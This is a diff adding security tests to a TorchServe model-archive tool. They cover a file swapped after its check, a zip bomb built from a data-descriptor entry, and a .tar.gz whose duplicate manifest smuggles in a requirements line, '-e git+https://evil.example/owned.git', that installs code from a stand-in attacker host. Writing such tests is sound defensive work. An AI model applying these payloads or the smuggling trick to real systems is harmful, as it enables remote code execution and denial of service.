@@ -418,3 +418,165 @@ def test_an_unreadable_entry_name_is_one_line_and_json_under_json(small_mar, tmp
     one_line(tsctl("inspect", archive), 2)
     done = tsctl("inspect", archive, "--json")
     assert done.returncode == 2 and "error" in json.loads(done.stdout or "null"), (done.stdout, done.stderr[-500:])
+
+
+# ---- check_zip's cache: a swapped file is checked again ----------------------------------------------------
+def same_size_mutant(clean: bytes) -> bytes:
+    """labels.json named otherwise in its local header only: as big as the clean archive, and refused."""
+    entries = entries_of(clean)
+    next(x for x in entries if x.name == b"labels.json").local_name = b"Labels.json"
+    return build(entries)
+
+
+@pytest.mark.parametrize("swap", ["rewritten in place, mtime put back", "renamed over", "symlink repointed"])
+def test_a_file_swapped_after_its_check_is_checked_again(small_mar, tmp_path, swap):
+    clean = build(entries_of(small_mar.read_bytes()))
+    bad = same_size_mutant(clean)
+    assert len(bad) == len(clean) and refused_bytes(bad, tmp_path)
+    for attempt in range(20):  # the swap as fast as it goes, right after the check
+        archives._CHECKED_ZIPS.clear()
+        path, other = tmp_path / f"{attempt}" / "tiny.mar", tmp_path / f"{attempt}" / "other.mar"
+        path.parent.mkdir()
+        if swap == "symlink repointed":
+            (path.parent / "a.mar").write_bytes(clean)
+            (path.parent / "b.mar").write_bytes(bad)
+            path.symlink_to("a.mar")
+        else:
+            path.write_bytes(clean)
+        before = path.stat()
+        assert archives.kind(path) == "zip"
+        if swap == "rewritten in place, mtime put back":
+            with open(path, "r+b") as f:
+                f.write(bad)
+            os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+        elif swap == "renamed over":
+            other.write_bytes(bad)
+            os.utime(other, ns=(before.st_atime_ns, before.st_mtime_ns))
+            os.replace(other, path)
+        else:
+            (path.parent / "tiny.new").symlink_to("b.mar")
+            os.replace(path.parent / "tiny.new", path)
+        with pytest.raises(archives.ArchiveError, match="disagree"):
+            archives.kind(path)
+
+
+def refused_bytes(data: bytes, where: Path) -> bool:
+    path = where / "probe.mar"
+    path.write_bytes(data)
+    return refused(path)
+
+
+# ---- check_zip's cost -----------------------------------------------------------------------------------------
+def zeros_stream(blocks: int, block: int = 16 << 20) -> bytes:
+    """A raw deflate stream of ``blocks`` x ``block`` zero bytes, made without compressing all of them: after a
+    full flush the compressor starts afresh, so each block compresses to the same bytes."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    one = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
+    return one * blocks + compressor.flush()
+
+
+def descriptor_bomb(blocks: int) -> bytes:
+    """A zip whose one big entry is deflated with a data descriptor (as `zip -` or a streaming writer makes
+    them): check_zip inflates it to find where ZipInputStream ends it."""
+    stream = zeros_stream(blocks)
+    usize = blocks * (16 << 20)
+    crc = 0
+    zero = b"\0" * (16 << 20)
+    for _ in range(blocks):
+        crc = zlib.crc32(zero, crc)
+    big = Entry(b"weights.bin", stream, crc, usize, len(stream), flags=8, local_sizes=(0, 0, 0))
+    wide = usize > 0xFFFFFFFF
+    big.descriptor = b"PK\x07\x08" + struct.pack("<IQQ" if wide else "<III", crc, len(stream), usize)
+    manifest = entry("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "bomb", "handler": "h.py"}}')
+    return build([manifest, big])
+
+
+def test_a_few_big_stored_or_deflated_entries_cost_a_millisecond(tmp_path):
+    archive = tmp_path / "big.mar"
+    with zipfile.ZipFile(archive, "w") as z:  # 6 entries of 8 MB: the check reads headers only
+        for index, method in enumerate([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED] * 3):
+            z.writestr(zipfile.ZipInfo(f"weights-{index}.bin"), os.urandom(1 << 20) * 8, method)
+    started = time.perf_counter()
+    archives.check_zip(archive)
+    assert time.perf_counter() - started < 0.05
+
+
+@pytest.mark.xfail(strict=True, reason="check_zip inflates a data-descriptor entry in full: ~0.4 s per MB of archive")
+def test_a_small_archive_of_a_descriptor_entry_is_checked_quickly(tmp_path):
+    """4 MB of archive, 4 GB inflated (~1.5 s): at this rate a 500 MB archive holds the engine, verify and inspect
+    for minutes, before unpack_limit's zip-bomb check (which comes after check_zip) ever runs."""
+    archive = tmp_path / "bomb.mar"
+    archive.write_bytes(descriptor_bomb(255))
+    assert archive.stat().st_size < 4.5e6
+    started = time.perf_counter()
+    try:
+        archives.check_zip(archive)
+    except archives.ArchiveError:
+        pass
+    took = time.perf_counter() - started
+    print(f"check_zip of a {archive.stat().st_size / 1e6:.1f} MB descriptor entry: {took:.1f} s")
+    assert took < 0.5
+
+
+# ---- .tar.gz: tsctl reads the first of two same-named members, extraction keeps the last ---------------------
+def tgz_with_second_manifest(store: Path, requirements: bytes) -> Path:
+    """tsctl package --archive-format tgz, then a requirements.txt and a second MANIFEST.json naming it appended:
+    tar -x, Python's extractall and TorchServe's TarArchiveInputStream loop all keep the last."""
+    from archiver import mar
+
+    store.parent.mkdir(parents=True, exist_ok=True)
+    (store.parent / "labels.json").write_text('{"0": "cat"}')
+    options = mar.PackageOptions(
+        model_name="tiny", handler="image_classifier", archive_format="tgz", export_path=str(store), force=True,
+        serialized_file=str(stand_in_torchscript(store.parent / "tiny.pt")),
+        extra_files=[str(store.parent / "labels.json")],
+    )  # fmt: skip
+    archive = mar.package(options)
+    with tarfile.open(archive) as src:
+        members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()]
+    manifest = json.loads(next(data for m, data in members if m.name == "tiny/MAR-INF/MANIFEST.json"))
+    manifest["model"]["requirementsFile"] = "requirements.txt"
+    with tarfile.open(archive, "w:gz") as out:
+        for m, data in members:
+            out.addfile(m, io.BytesIO(data) if data is not None else None)
+        for name, data in (
+            ("tiny/requirements.txt", requirements),
+            ("tiny/MAR-INF/MANIFEST.json", json.dumps(manifest)),
+        ):
+            data = data if isinstance(data, bytes) else data.encode()
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            out.addfile(member, io.BytesIO(data))
+    return archive
+
+
+EVIL_REQUIREMENTS = b"-e git+https://evil.example/owned.git#egg=owned\n"
+
+
+@pytest.mark.xfail(
+    strict=True, reason="a .tar.gz's duplicate members: tsctl reads the first, TorchServe unpacks the last"
+)
+def test_export_kserve_refuses_a_tgz_whose_second_manifest_names_unchecked_requirements(tmp_path):
+    from conftest import export_tree
+
+    root = tmp_path / "tree"
+    archive = tgz_with_second_manifest(root / "model-store", EVIL_REQUIREMENTS)
+    unpacked = tmp_path / "as-torchserve-unpacks-it"
+    unpacked.mkdir()
+    subprocess.run(["tar", "-xzf", str(archive), "-C", str(unpacked)], check=True)
+    assert (unpacked / "tiny" / "requirements.txt").read_bytes() == EVIL_REQUIREMENTS
+    assert json.loads((unpacked / "tiny/MAR-INF/MANIFEST.json").read_text())["model"]["requirementsFile"]
+    try:
+        out = export_tree(root)
+    except Exception as exc:  # noqa: BLE001 - refused: what is expected
+        assert "requirements.txt" in str(exc) or "tiny.tar.gz" in str(exc), exc
+        return
+    assert "install_py_dep_per_model=true" in (out / "config" / "config.properties").read_text()
+    as_served = tmp_path / "as-torchserve-unpacks-the-export"
+    as_served.mkdir()
+    subprocess.run(["tar", "-xzf", str(out / "model-store" / "tiny.tar.gz"), "-C", str(as_served)], check=True)
+    named = json.loads((as_served / "tiny/MAR-INF/MANIFEST.json").read_text())["model"].get("requirementsFile")
+    if named:  # what TorchServe's per-model install runs pip install -r on: only checked lines
+        from archiver import requirements
+
+        requirements.check((as_served / "tiny" / named).read_text(), "the exported archive's requirements")
